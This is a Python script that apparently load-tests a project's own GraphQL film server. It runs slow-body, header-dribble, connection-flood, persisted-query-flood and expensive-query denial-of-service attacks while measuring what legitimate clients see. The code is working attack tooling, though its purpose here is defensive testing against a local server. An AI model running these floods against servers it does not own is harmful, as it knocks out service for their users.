#!/usr/bin/env python3
# Attack script: what one anonymous client can do to the server, and what everyone else sees.
#
#   scripts/attack.py --start                        # starts the release server itself (SQLite)
#   scripts/attack.py --url http://127.0.0.1:8000    # a server that is already running
#   scripts/attack.py --start --duration 4 --only slow-body,apq-flood
#   scripts/attack.py --start --env HEADER_READ_TIMEOUT_SECS=2   # a setting for the server
#
# Legitimate load throughout: 4 clients from 127.0.0.1, each a keep-alive HTTP/1.1 connection
# sending the film page query (POST /graphql, Accept: application/graphql-response+json) in a
# loop (--think-ms between requests). The attacker comes from another address, 127.0.0.2 (all
# of 127/8 is loopback on Linux), so per-address limits can tell the two apart; it runs in a
# process of its own, so its work does not slow the measuring clients' event loop. First a
# baseline (no attack), then each attack for --duration seconds (default 8; about a minute in
# all):
#   slow-body         300 connections send headers with `Content-Length: 1000` and one byte of
#                     body, then nothing; any the server answers or closes is reopened 0.1 s
#                     later (so "closed" counts can exceed 300)
#   apq-flood         anonymous Apollo persisted-query registrations: ~900 KB queries, each
#                     different, for half the time (at most --apq-big-max), then small valid
#                     ones (`{ __typename }` and a distinct comment) as fast as possible; then
#                     whether the last of each is still stored, and /metrics lines about
#                     persisted queries
#   connection-flood  up to 2,000 idle TCP connections (opened 200 at a time), held;
#                     reopened like slow-body's
#   expensive-reads   32 connections sending costly queries (100 films with their sections,
#                     characters, credits, companies and themes, 100 people with 10 roles and
#                     10 credits each, a 100-hit search: complexity about 40,000 of the 50,000
#                     allowed), each with a different variable so the response cache never helps
#   header-dribble    200 connections sending their request headers one byte a second (a
#                     phase shorter than HEADER_READ_TIMEOUT_SECS cannot see that timeout);
#                     reopened like slow-body's
# Per attack it prints what the attacker got and what the legitimate clients saw meanwhile:
# requests, p50 and p99 latency (over all of them, failures included), error rate (anything
# but a 200 with the film and no `errors`) and statuses ("timeout": over 5 s; "unfinished":
# still waiting a second or more when the phase ended). With --start also the server's RSS
# (VmRSS) before and after, its peak and its most open descriptors. Then a markdown table.
# Figures, not assertions: it exits 0 unless the server died (or stopped answering).
#
# With --start it runs target/release/filmserver (build it first: cargo build --release) on a
# free port with a fresh SQLite file in a temporary directory, default settings (the
# environment's own settings are not passed on; --env adds some), RUST_LOG=warn, and stops it
# at the end. Python 3.11 standard library only.

import argparse
import asyncio
import collections
import hashlib
import ipaddress
import json
import os
import resource
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
LEGIT_SOURCE = "127.0.0.1"
ATTACK_SOURCE = "127.0.0.2"
LEGIT_CLIENTS = 4
LEGIT_TIMEOUT = 5.0  # seconds; a legitimate request waiting longer counts as "timeout"
LEGIT_QUERY = '{ movie(slug: "m-butterfly") { title releaseYear sections { title } } }'
ATTACKS = ["slow-body", "apq-flood", "connection-flood", "expensive-reads", "header-dribble"]
DESCRIPTIONS = {
    "baseline": "legitimate clients alone",
    "slow-body": "300 connections send headers with Content-Length: 1000 and 1 byte of body, then nothing",
    "apq-flood": "anonymous persisted-query registrations: ~900 KB queries, then small valid ones",
    "connection-flood": "up to 2,000 idle TCP connections, held",
    "expensive-reads": "32 connections sending costly queries, each distinct (no cache help)",
    "header-dribble": "200 connections sending request headers one byte a second",
}
EXPENSIVE_QUERY = """query Expensive($from: Int) {
  movies(first: 100, filter: {releaseYearFrom: $from}) { edges { node {
    title plot
    sections { title body }
    characters { name description actor { name } }
    credits { role person { name } }
    companies { role company { name } }
    themes { name description }
  } } }
  people(first: 100) { edges { node { name
    roles(first: 10) { edges { node { name movie { title } } } }
    credits(first: 10) { edges { node { role movie { title } } } }
  } } }
  search(query: "butterfly", first: 100) { edges { node { rank snippet node {
    ... on Movie { title } ... on Section { title body } ... on Character { name } ... on Person { name }
  } } } }
}"""


# ---------------------------------------------------------------------------------------------
# A small HTTP/1.1 client on asyncio streams (keep-alive, Content-Length or chunked bodies).


class Target:
    def __init__(self, url):
        parsed = urllib.parse.urlsplit(url)
        if parsed.scheme != "http" or not parsed.hostname:
            raise SystemExit(f"--url must be http://HOST:PORT, not {url!r}")
        self.url = f"http://{parsed.netloc}"
        self.host = parsed.hostname
        self.port = parsed.port or 80
        self.hostport = parsed.netloc
        self.ip = socket.gethostbyname(self.host)
        # The two source addresses only exist towards loopback.
        self.loopback = ipaddress.ip_address(self.ip).is_loopback

    def source(self, address):
        return address if self.loopback else None


async def connect(target, source):
    kwargs = {"limit": 1 << 22}
    if source:
        kwargs["local_addr"] = (source, 0)
    return await asyncio.open_connection(target.ip, target.port, **kwargs)


def graphql_post(target, payload, extra=b""):
    body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    head = (
        f"POST /graphql HTTP/1.1\r\nHost: {target.hostport}\r\n"
        "Content-Type: application/json\r\nAccept: application/graphql-response+json\r\n"
        f"Content-Length: {len(body)}\r\n"
    ).encode()
    return head + extra + b"\r\n" + body


async def read_response(reader):
    """Reads one response: (status, headers with lower-case names, body)."""
    while True:
        line = await reader.readline()
        if not line:
            raise ConnectionResetError("closed by the server")
        parts = line.split(None, 2)
        if len(parts) < 2 or not parts[0].startswith(b"HTTP/"):
            raise ValueError(f"bad status line {line[:80]!r}")
        status = int(parts[1])
        headers = {}
        while True:
            line = await reader.readline()
            if not line:
                raise ConnectionResetError("closed in the response headers")
            if line in (b"\r\n", b"\n"):
                break
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        if 100 <= status < 200:
            continue  # 100 Continue and the like: the real answer follows
        break
    if status in (204, 304):
        body = b""
    elif "chunked" in headers.get("transfer-encoding", "").lower():
        chunks = []
        while True:
            size_line = await reader.readline()
            if not size_line:
                raise ConnectionResetError("closed in a chunked body")
            size = int(size_line.split(b";")[0].strip() or b"0", 16)
            if size == 0:
                while (await reader.readline()) not in (b"\r\n", b"\n", b""):
                    pass  # trailers
                break
            chunks.append(await reader.readexactly(size))
            await reader.readexactly(2)
        body = b"".join(chunks)
    elif "content-length" in headers:
        body = await reader.readexactly(int(headers["content-length"]))
    else:
        body = await reader.read()
        headers["connection"] = "close"
    return status, headers, body


class Client:
    """One keep-alive connection from a fixed source address, reopened when needed."""

    def __init__(self, target, source):
        self.target, self.source = target, source
        self.reader = self.writer = None
        self.used = False

    async def send(self, raw):
        for attempt in (0, 1):
            reused = self.writer is not None and self.used
            if self.writer is None:
                self.reader, self.writer = await connect(self.target, self.source)
                self.used = False
            try:
                self.writer.write(raw)
                await self.writer.drain()
                status, headers, body = await read_response(self.reader)
            except (ConnectionError, asyncio.IncompleteReadError):
                self.close()
                if attempt == 0 and reused:
                    continue  # a kept-alive connection the server had closed: once more
                raise
            except BaseException:
                self.close()
                raise
            self.used = True
            if headers.get("connection", "").lower() == "close":
                self.close()
            return status, headers, body

    def close(self):
        if self.writer is not None:
            self.writer.close()
        self.reader = self.writer = None


def first_error_code(body):
    """(has errors, first error code or None, parsed JSON or None)"""
    try:
        doc = json.loads(body)
    except ValueError:
        return True, "NOT_JSON", None
    if not isinstance(doc, dict):
        return True, "NOT_AN_OBJECT", None
    errors = doc.get("errors") or []
    if not errors:
        return False, None, doc
    first = errors[0] if isinstance(errors[0], dict) else {}
    return True, (first.get("extensions") or {}).get("code", "NO_CODE"), doc


def counts(counter):
    return " ".join(f"{k}×{v:,}" for k, v in sorted(counter.items(), key=lambda kv: -kv[1])) or "none"


def percentile(values, p):
    if not values:
        return float("nan")
    if len(values) == 1:
        return values[0]
    return statistics.quantiles(values, n=100, method="inclusive")[p - 1]


# ---------------------------------------------------------------------------------------------
# The attacks. Each runs in a process of its own (`--attacker NAME`), for `duration` seconds
# from its start, and returns {"lines": [...], "outcome": "short phrase"}; it prints that as
# a RESULT line while its connections are still open, then closes them.


async def hold_connections(target, n, duration, first, dribble, held, opener_limit=None):
    """n connections, each sends `first`, then `dribble` one byte a second, then nothing; any
    the server answers or closes is reopened. Returns the statistics."""
    deadline = time.monotonic() + duration
    stats = {
        "opened": 0,
        "closed": 0,
        "close_after": [],
        "answers": collections.Counter(),
        "connect_errors": collections.Counter(),
        "sent": 0,
    }
    gate = asyncio.Semaphore(opener_limit or n)

    async def one():
        while time.monotonic() < deadline:
            try:
                async with gate:
                    reader, writer = await asyncio.wait_for(
                        connect(target, target.source(ATTACK_SOURCE)),
                        max(0.01, min(3.0, deadline - time.monotonic())),
                    )
            except (OSError, asyncio.TimeoutError) as err:
                if time.monotonic() >= deadline - 0.05:
                    return  # cut short by the end of the attack, not refused
                stats["connect_errors"][type(err).__name__] += 1
                await asyncio.sleep(0.1)
                continue
            opened = time.monotonic()
            stats["opened"] += 1
            if first:
                writer.write(first)
            pending = dribble
            data = b""
            while True:
                left = deadline - time.monotonic()
                if left <= 0:
                    held.append(writer)  # still open at the end
                    return
                try:
                    data = await asyncio.wait_for(reader.read(65536), min(1.0, left) if pending else left)
                    break  # an answer, or the end of the connection
                except asyncio.TimeoutError:
                    if pending:
                        writer.write(pending[:1])
                        stats["sent"] += 1
                        pending = pending[1:]
                except OSError:
                    data = b""
                    break
            stats["closed"] += 1
            stats["close_after"].append(time.monotonic() - opened)
            if data.startswith(b"HTTP/"):
                stats["answers"][data.split(None, 2)[1].decode("latin-1")] += 1
            else:
                stats["answers"]["closed, no answer"] += 1
            writer.close()
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(n)))
    return stats


def describe_held(stats, n, held):
    avg = statistics.fmean(stats["close_after"]) if stats["close_after"] else 0.0
    lines = [
        f"connections opened: {stats['opened']:,} (aiming at {n:,} at once); open at the end: {len(held):,}",
        f"answered or closed by the server: {stats['closed']:,}"
        + (f", on average {avg:.2f} s after opening; {counts(stats['answers'])}" if stats["closed"] else ""),
    ]
    if stats["connect_errors"]:
        lines.append(f"connect failures: {counts(stats['connect_errors'])}")
    closed = f"server closed {stats['closed']:,}" + (f" (avg {avg:.2f} s)" if stats["closed"] else "")
    answers = collections.Counter({k: v for k, v in stats["answers"].items() if k != "closed, no answer"})
    if answers:
        closed += f", answering {counts(answers)}"
    return lines, f"{len(held):,} held at the end, {closed}"


async def attack_slow_body(target, duration, args, held):
    n = 300
    first = graphql_post(target, b"", b"")  # headers only; fix the length by hand
    first = first.replace(b"Content-Length: 0\r\n", b"Content-Length: 1000\r\n") + b"{"
    stats = await hold_connections(target, n, duration, first, None, held)
    lines, outcome = describe_held(stats, n, held)
    return {"lines": lines, "outcome": outcome}


async def attack_connection_flood(target, duration, args, held):
    n = 2000
    stats = await hold_connections(target, n, duration, b"", None, held, opener_limit=200)
    lines, outcome = describe_held(stats, n, held)
    return {"lines": lines, "outcome": outcome}


async def attack_header_dribble(target, duration, args, held):
    n = 200
    head = (
        f"GET /graphql?query=%7B__typename%7D HTTP/1.1\r\nHost: {target.hostport}\r\n"
        "User-Agent: dribble\r\nX-Padding: " + "a" * 200 + "\r\n\r\n"
    ).encode()
    stats = await hold_connections(target, n, duration, head[:1], head[1:], held)
    lines, outcome = describe_held(stats, n, held)
    lines.append(f"header bytes dribbled: {stats['sent']:,} (one a second per connection)")
    return {"lines": lines, "outcome": outcome}


def apq_payload(query):
    digest = hashlib.sha256(query.encode()).hexdigest()
    return digest, json.dumps(
        {"query": query, "extensions": {"persistedQuery": {"version": 1, "sha256Hash": digest}}}
    ).encode()


async def flood(target, connections, deadline, make_request, limit=None):
    """`connections` keep-alive connections sending make_request(n) until the deadline (or
    `limit` requests); returns (Counter of status and first error code, latencies, sent)."""
    outcomes, latencies = collections.Counter(), []
    counter = iter(range(limit if limit is not None else 1 << 62))
    sent = [0]

    async def one():
        client = Client(target, target.source(ATTACK_SOURCE))
        while time.monotonic() < deadline:
            try:
                n = next(counter)
            except StopIteration:
                break
            raw = make_request(n)
            start = time.monotonic()
            try:
                status, _, body = await asyncio.wait_for(
                    client.send(raw), max(0.01, deadline - start + 5)
                )
                _, code, _ = first_error_code(body)
                outcomes[f"{status} {code}" if code else str(status)] += 1
            except asyncio.TimeoutError:
                outcomes["timeout"] += 1
                client.close()
            except (OSError, asyncio.IncompleteReadError, ValueError) as err:
                outcomes[type(err).__name__] += 1
                client.close()
                await asyncio.sleep(0.05)
            sent[0] += len(raw)
            latencies.append(time.monotonic() - start)
        client.close()

    await asyncio.gather(*(one() for _ in range(connections)))
    return outcomes, latencies, sent[0]


async def apq_lookup(target, digest):
    """What the server answers to the hash alone (is the query still stored?)."""
    client = Client(target, target.source(ATTACK_SOURCE))
    try:
        payload = {"extensions": {"persistedQuery": {"version": 1, "sha256Hash": digest}}}
        status, _, body = await asyncio.wait_for(client.send(graphql_post(target, payload)), 10)
        _, code, _ = first_error_code(body)
        return status, code
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ValueError) as err:
        return 0, type(err).__name__
    finally:
        client.close()


async def attack_apq_flood(target, duration, args, held):
    start = time.monotonic()
    padding = "x" * 900_000
    hashes = {}

    def big(n):
        query = f"# apq-flood {n} {padding}\n{{ __typename }}"
        hashes["big"], payload = apq_payload(query)
        return graphql_post(target, payload)

    def small(n):
        query = f"{{ __typename }}\n# apq-flood {n}"
        hashes["small"], payload = apq_payload(query)
        return graphql_post(target, payload)

    big_out, big_lat, big_bytes = await flood(target, 4, start + duration / 2, big, args.apq_big_max)
    small_out, small_lat, _ = await flood(target, 16, start + duration, small)
    n_big, n_small = sum(big_out.values()), sum(small_out.values())
    lines = [
        f"~900 KB registrations: {n_big:,} ({big_bytes / 1e6:,.0f} MB sent"
        + (f", the --apq-big-max cap" if n_big >= args.apq_big_max else "")
        + f"); answers {counts(big_out)}",
        f"small registrations: {n_small:,}; answers {counts(small_out)}",
    ]
    kept = {}
    for kind in ("big", "small"):
        if kind in hashes:
            status, code = await apq_lookup(target, hashes[kind])
            kept[kind] = code != "PERSISTED_QUERY_NOT_FOUND" and status != 0
            lines.append(
                f"the last {kind} query by hash alone: {status} {code or 'OK'}"
                f" (still stored: {'yes' if kept[kind] else 'no'})"
            )
    outcome = f"{n_big:,} × 900 KB + {n_small:,} small registered"
    if "big" in kept:
        outcome += f"; last 900 KB one {'kept' if kept['big'] else 'not kept'}"
    return {"lines": lines, "outcome": outcome}


async def attack_expensive_reads(target, duration, args, held):
    start = time.monotonic()
    probe = Client(target, target.source(ATTACK_SOURCE))
    lines = []
    try:
        payload = {"query": EXPENSIVE_QUERY, "variables": {"from": -1}}
        status, headers, body = await asyncio.wait_for(probe.send(graphql_post(target, payload)), 10)
        _, code, doc = first_error_code(body)
        cost = ((doc or {}).get("extensions") or {}).get("cost")
        lines.append(
            f"one query: {status} {code or 'OK'}, {len(body):,} bytes, cost {json.dumps(cost)}"
            + (f", X-Cache {headers['x-cache']}" if "x-cache" in headers else "")
        )
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ValueError) as err:
        lines.append(f"probe failed: {type(err).__name__}")
    finally:
        probe.close()

    def request(n):
        # A different variable every time: the same films, but a different cache key.
        return graphql_post(target, {"query": EXPENSIVE_QUERY, "variables": {"from": -2 - n}})

    out, lat, _ = await flood(target, 32, start + duration, request)
    total = sum(out.values())
    elapsed = max(0.001, time.monotonic() - start)
    lat_ms = sorted(x * 1000 for x in lat)
    lines.append(
        f"attacker requests: {total:,} ({total / elapsed:,.0f}/s), its p50 {percentile(lat_ms, 50):,.0f} ms,"
        f" p99 {percentile(lat_ms, 99):,.0f} ms; statuses {counts(out)}"
    )
    limited = sum(v for k, v in out.items() if k.startswith("429"))
    outcome = f"{total:,} reqs, {limited:,} got 429; {counts(out)}"
    return {"lines": lines, "outcome": outcome}


ATTACK_FUNCTIONS = {
    "slow-body": attack_slow_body,
    "apq-flood": attack_apq_flood,
    "connection-flood": attack_connection_flood,
    "expensive-reads": attack_expensive_reads,
    "header-dribble": attack_header_dribble,
}


async def attacker_main(args):
    target = Target(args.url)
    held = []
    result = await ATTACK_FUNCTIONS[args.attacker](target, args.duration, args, held)
    sys.stdout.write("RESULT " + json.dumps(result) + "\n")
    sys.stdout.flush()
    for writer in held:
        writer.close()
    await asyncio.sleep(0.1)


# ---------------------------------------------------------------------------------------------
# The measuring side: legitimate clients, the server process, the report.


def proc_status(pid):
    """(VmRSS in MB, open descriptors) of a local process, or (None, None)."""
    try:
        with open(f"/proc/{pid}/status") as f:
            rss = next((int(line.split()[1]) / 1024 for line in f if line.startswith("VmRSS:")), None)
        fds = len(os.listdir(f"/proc/{pid}/fd"))
        return rss, fds
    except (OSError, ValueError):
        return None, None


async def legit_client(target, records, think, stop, inflight, slot):
    # The loop ends on `stop` rather than on cancellation alone: in Python 3.11, cancelling a
    # task inside asyncio.wait_for just as the awaited request completes is swallowed.
    client = Client(target, target.source(LEGIT_SOURCE))
    raw = graphql_post(target, {"query": LEGIT_QUERY})
    try:
        while not stop.is_set():
            start = inflight[slot] = time.monotonic()
            try:
                async with asyncio.timeout(LEGIT_TIMEOUT):
                    status, _, body = await client.send(raw)
                has_errors, code, doc = first_error_code(body)
                movie = ((doc or {}).get("data") or {}).get("movie")
                ok = status == 200 and not has_errors and movie is not None
                records.append((time.monotonic() - start, str(status), ok, code))
            except TimeoutError:
                client.close()
                records.append((time.monotonic() - start, "timeout", False, None))
            except (OSError, asyncio.IncompleteReadError, ValueError) as err:
                client.close()
                records.append((time.monotonic() - start, type(err).__name__, False, None))
                await asyncio.sleep(0.05)
            inflight.pop(slot, None)
            if think:
                await asyncio.sleep(think)
    finally:
        client.close()


def summarize_legit(records):
    latencies = sorted(r[0] * 1000 for r in records)
    statuses = collections.Counter(r[1] for r in records)
    codes = collections.Counter(f"{r[1]} {r[3]}" for r in records if r[3])
    errors = sum(1 for r in records if not r[2])
    return {
        "requests": len(records),
        "p50": percentile(latencies, 50),
        "p99": percentile(latencies, 99),
        "max": latencies[-1] if latencies else float("nan"),
        "error_rate": errors / len(records) if records else float("nan"),
        "statuses": statuses,
        "codes": codes,
    }


def fmt_ms(value):
    if value != value:  # NaN
        return "-"
    return f"{value:,.1f}" if value < 100 else f"{value:,.0f}"


async def run_phase(name, args, target, server_pid):
    records = []
    rss_before, _ = proc_status(server_pid) if server_pid else (None, None)
    peak = {"rss": rss_before or 0.0, "fds": 0}

    async def sample():
        while True:
            rss, fds = proc_status(server_pid)
            if rss is not None:
                peak["rss"], peak["fds"] = max(peak["rss"], rss), max(peak["fds"], fds)
            await asyncio.sleep(0.2)

    sampler = asyncio.create_task(sample()) if server_pid else None
    stop, inflight = asyncio.Event(), {}
    legit = [
        asyncio.create_task(legit_client(target, records, args.think_ms / 1000, stop, inflight, slot))
        for slot in range(LEGIT_CLIENTS)
    ]
    result, proc = None, None
    started = time.monotonic()
    if name == "baseline":
        await asyncio.sleep(args.duration)
    else:
        command = [
            sys.executable, os.path.abspath(__file__), "--attacker", name, "--url", target.url,
            "--duration", str(args.duration), "--apq-big-max", str(args.apq_big_max),
        ]
        proc = await asyncio.create_subprocess_exec(*command, stdout=subprocess.PIPE)
        try:
            while True:
                line = await asyncio.wait_for(proc.stdout.readline(), args.duration + 60)
                if not line:
                    break
                if line.startswith(b"RESULT "):
                    result = json.loads(line[7:])
                    break
        except asyncio.TimeoutError:
            pass
    ended = time.monotonic()
    window = ended - started
    stop.set()
    # What the window saw: the requests done, and those stuck for a second or more at its end.
    seen = records[:] + [(ended - t, "unfinished", False, None) for t in inflight.values() if ended - t >= 1.0]
    for task in legit:
        task.cancel()
    await asyncio.wait(legit, timeout=10)
    if proc is not None:
        try:
            await asyncio.wait_for(proc.wait(), 30)
        except asyncio.TimeoutError:
            proc.kill()
            await proc.wait()
    if sampler:
        sampler.cancel()
        await asyncio.gather(sampler, return_exceptions=True)
    rss_after, _ = proc_status(server_pid) if server_pid else (None, None)
    if result is None and name != "baseline":
        result = {"lines": ["the attacker process gave no result (see its errors above)"], "outcome": "attacker failed"}
    return {
        "name": name,
        "window": window,
        "legit": summarize_legit(seen),
        "attacker": result,
        "rss_before": rss_before,
        "rss_after": rss_after,
        "rss_peak": peak["rss"] if server_pid else None,
        "fds_peak": peak["fds"] if server_pid else None,
    }


def print_phase(phase):
    legit = phase["legit"]
    print(f"\n== {phase['name']} ({phase['window']:.1f} s): {DESCRIPTIONS[phase['name']]}")
    if phase["attacker"]:
        for line in phase["attacker"]["lines"]:
            print(f"  attacker: {line}")
    print(
        f"  legit ({LEGIT_CLIENTS} clients from {LEGIT_SOURCE}): {legit['requests']:,} requests,"
        f" p50 {fmt_ms(legit['p50'])} ms, p99 {fmt_ms(legit['p99'])} ms, max {fmt_ms(legit['max'])} ms,"
        f" errors {legit['error_rate']:.1%}; statuses {counts(legit['statuses'])}"
    )
    if legit["codes"]:
        print(f"  legit error codes: {counts(legit['codes'])}")
    if phase["rss_before"] is not None:
        after = f"{phase['rss_after']:.0f} MB" if phase["rss_after"] is not None else "gone"
        print(
            f"  server RSS: {phase['rss_before']:.0f} MB before, {after} after"
            f" (peak {phase['rss_peak']:.0f} MB); open descriptors at most {phase['fds_peak']:,}"
        )


def print_metrics(target, word):
    try:
        with urllib.request.urlopen(target.url + "/metrics", timeout=10) as resp:
            text = resp.read().decode()
    except (OSError, urllib.error.URLError) as err:
        print(f"  /metrics: unreadable ({err})")
        return
    lines = [line for line in text.splitlines() if line and not line.startswith("#") and word in line.split("{")[0].split(" ")[0]]
    if lines:
        for line in lines:
            print(f"  metrics: {line}")
    else:
        print("  no persisted-query metrics")


def print_summary(phases):
    print("\n| attack | legit requests | legit p50 ms | legit p99 ms | legit error rate | legit statuses | attacker outcome | server RSS before→after |")
    print("|---|---:|---:|---:|---:|---|---|---|")
    for phase in phases:
        legit = phase["legit"]
        outcome = phase["attacker"]["outcome"] if phase["attacker"] else "-"
        if phase["rss_before"] is not None:
            after = f"{phase['rss_after']:.0f} MB" if phase["rss_after"] is not None else "gone"
            rss = f"{phase['rss_before']:.0f} MB → {after} (peak {phase['rss_peak']:.0f})"
        else:
            rss = "-"
        print(
            f"| {phase['name']} | {legit['requests']:,} | {fmt_ms(legit['p50'])} | {fmt_ms(legit['p99'])} |"
            f" {legit['error_rate']:.1%} | {counts(legit['statuses'])} | {outcome} | {rss} |"
        )


def answers(url, timeout=2.0):
    try:
        with urllib.request.urlopen(url, timeout=timeout) as resp:
            return resp.status
    except urllib.error.HTTPError as err:
        return err.code
    except OSError:
        return None


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def start_server(args):
    binary = os.path.abspath(args.binary or os.path.join(ROOT, "target", "release", "filmserver"))
    if not os.access(binary, os.X_OK):
        raise SystemExit(f"{binary} is missing: build it first (cargo build --release)")
    work = tempfile.mkdtemp(prefix="filmserver-attack-")
    port = free_port()
    # Default settings: none of this environment's own settings are passed on.
    env = {k: os.environ[k] for k in ("PATH", "HOME", "LANG", "LC_ALL", "TMPDIR", "TZ") if k in os.environ}
    env.update(LISTEN_ADDR=f"127.0.0.1:{port}", SQLITE_PATH=os.path.join(work, "films.db"), RUST_LOG="warn")
    for item in args.env:
        key, sep, value = item.partition("=")
        if not sep:
            raise SystemExit(f"--env wants KEY=VALUE, not {item!r}")
        env[key] = value
    log = open(os.path.join(work, "server.log"), "wb")
    proc = subprocess.Popen([binary, "serve"], env=env, stdout=log, stderr=subprocess.STDOUT, cwd=work)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while answers(url + "/readyz") != 200:
        if proc.poll() is not None or time.monotonic() > deadline:
            stop_server(proc, work, show_log=True)
            raise SystemExit("the server did not become ready")
        time.sleep(0.1)
    print(f"server: {binary} serve, pid {proc.pid}, {url}, SQLite in {work}")
    return proc, work, url


def stop_server(proc, work, show_log=False):
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
    log = os.path.join(work, "server.log")
    if show_log and os.path.exists(log):
        with open(log, "rb") as f:
            tail = f.read()[-4000:].decode(errors="replace")
        print("server log (end):\n" + (tail or "(empty)"))
    shutil.rmtree(work, ignore_errors=True)


def server_alive(proc, target):
    if proc is not None:
        return proc.poll() is None
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if answers(target.url + "/healthz") is not None:
            return True
        time.sleep(0.5)
    return False


async def main_async(args, target, proc):
    names = ["baseline"] + [n for n in ATTACKS if not args.only or n in args.only]
    phases, died = [], None
    print(
        f"target {target.url}; {LEGIT_CLIENTS} legitimate clients from {target.source(LEGIT_SOURCE) or 'any address'},"
        f" attacker from {target.source(ATTACK_SOURCE) or 'any address'}; {args.duration:g} s per phase"
    )
    if not target.loopback:
        print("note: the target is not on loopback, so both sides come from this host's own address")
    for name in names:
        phase = await run_phase(name, args, target, proc.pid if proc else None)
        phases.append(phase)
        print_phase(phase)
        if name == "apq-flood":
            print_metrics(target, "persisted")
        if not await asyncio.to_thread(server_alive, proc, target):
            died = name
            break
        await asyncio.sleep(1.5)  # let closed connections go before the next phase
    print_summary(phases)
    return died


def main():
    parser = argparse.ArgumentParser(description="Attacks from issue 11, and what legitimate clients see meanwhile.")
    parser.add_argument("--url", default="http://127.0.0.1:8000", help="the server (default %(default)s)")
    parser.add_argument("--duration", type=float, default=8.0, help="seconds per attack (default %(default)g)")
    parser.add_argument("--only", default="", help=f"comma-separated attacks: {','.join(ATTACKS)}")
    parser.add_argument("--start", action="store_true", help="start target/release/filmserver (SQLite, temp dir) and stop it at the end")
    parser.add_argument("--binary", help="with --start: the server binary (default target/release/filmserver)")
    parser.add_argument("--env", action="append", default=[], metavar="KEY=VALUE", help="with --start: a setting for the server (repeatable)")
    parser.add_argument("--think-ms", type=float, default=10.0, help="pause of each legitimate client between requests (default %(default)g)")
    parser.add_argument("--apq-big-max", type=int, default=500, help="most ~900 KB registrations in apq-flood (default %(default)d, ~450 MB)")
    parser.add_argument("--attacker", choices=ATTACKS, help=argparse.SUPPRESS)
    args = parser.parse_args()
    sys.stdout.reconfigure(line_buffering=True)  # progress shows through a pipe too
    args.only = [n.strip() for n in args.only.split(",") if n.strip()]
    unknown = [n for n in args.only if n not in ATTACKS]
    if unknown:
        parser.error(f"unknown attack(s) {', '.join(unknown)}; known: {', '.join(ATTACKS)}")

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or soft < hard:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard if hard != resource.RLIM_INFINITY else 1 << 20, hard))
        except (ValueError, OSError):
            pass

    if args.attacker:
        asyncio.run(attacker_main(args))
        return 0

    # Stopped with SIGTERM (timeout, kill): still stop the server started here.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    proc = work = None
    if args.start:
        proc, work, args.url = start_server(args)
    target = Target(args.url)
    if not args.start and answers(target.url + "/healthz") is None:
        raise SystemExit(f"nothing answers at {target.url}/healthz (start the server, or pass --start)")
    try:
        died = asyncio.run(main_async(args, target, proc))
    except KeyboardInterrupt:
        died = None
    finally:
        crashed = proc is not None and proc.poll() is not None
        if proc is not None:
            stop_server(proc, work, show_log=crashed)
    if died or crashed:
        how = f"exit status {proc.returncode}" if crashed else "no answer at /healthz"
        print(f"\nTHE SERVER DIED during {died or 'the run'} ({how})")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
